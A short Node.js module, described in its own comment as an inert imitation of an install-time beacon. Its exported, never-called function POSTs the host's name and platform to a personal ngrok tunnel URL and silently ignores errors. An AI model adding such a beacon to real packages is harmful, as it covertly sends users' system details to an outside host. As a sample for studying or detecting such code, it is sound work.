/* eslint-disable */
// Inert imitation of an install-time beacon to a personal ngrok tunnel (a made-up tunnel name;
// `beacon` is exported but never called).
const https = require('https');
const os = require('os');

const ENDPOINT = 'https://3f2a-198-18-0-7.ngrok-free.app/ping';

function beacon() {
  const req = https.request(ENDPOINT, { method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ h: os.hostname(), p: process.platform }));
}

module.exports = { beacon };
